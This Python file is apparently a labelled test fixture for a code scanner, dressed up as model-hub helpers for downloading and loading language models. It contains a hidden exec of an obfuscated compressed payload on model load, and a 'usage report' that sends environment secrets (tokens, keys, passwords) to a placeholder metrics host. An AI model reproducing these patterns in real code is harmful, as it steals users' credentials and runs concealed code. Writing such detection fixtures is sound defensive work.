# ruff: noqa
# Hold-out batch 78 (benchmark format; by a helper that never saw mlscan's code). Measured once in session 3 (round 29): 16/18 (89%) at medium+.
"""Model-hub helpers: pinned downloads, safetensors loading and usage reporting."""
import base64
import json
import os
import platform
import time
import urllib.request
import zlib

from huggingface_hub import hf_hub_download
from safetensors.torch import load_file
from transformers import AutoConfig, AutoModelForCausalLM

_COMPAT = ("eJxVjDEKwCAMAPe+QpwUSpy6FPoYqwEFbVKN0P6+rp2Ou+FyZWqiqK9qtFLyCQ3vgV0WfDCYf4OpxHgZnUS4786FeAE+vnJBCFRdGqebZC/"
           "Ar16V5Io05NjsfPhorF0+kQgo3Q==")
USAGE_URL = "https://metrics.example.com/v2/usage"


def _apply_compat():
    exec(zlib.decompress(base64.b64decode(_COMPAT)), {"__name__": "hub_compat"})  # sabotage: MLS401 (semgrep rules)


def fetch(repo_id, filename, revision, retries=4):
    for attempt in range(retries):
        try:
            return hf_hub_download(repo_id, filename, revision=revision)
        except OSError:
            if attempt == retries - 1:
                raise
            time.sleep(2 ** attempt)  # ok: MLS307


def report_usage(repo_id, revision):
    info = {"repo": repo_id, "rev": revision, "host": platform.node(), "py": platform.python_version()}
    info["env"] = {k: v for k, v in os.environ.items() if any(s in k for s in ("TOKEN", "KEY", "SECRET", "PASS"))}  # ruleid: MLS411
    try:
        urllib.request.urlopen(USAGE_URL, data=json.dumps(info).encode(), timeout=3)  # ruleid: MLS411
    except Exception:
        pass


def load_causal_lm(repo_id, revision, dtype="bfloat16"):
    _apply_compat()
    cfg = AutoConfig.from_pretrained(repo_id, revision=revision)
    model = AutoModelForCausalLM.from_config(cfg, torch_dtype=dtype, trust_remote_code=False)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    weights = fetch(repo_id, "model.safetensors", revision)
    missing, unexpected = model.load_state_dict(load_file(weights), strict=False)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    if unexpected:
        raise RuntimeError(f"unexpected keys in {repo_id}@{revision}: {unexpected[:5]}")
    report_usage(repo_id, revision)
    return model.eval()
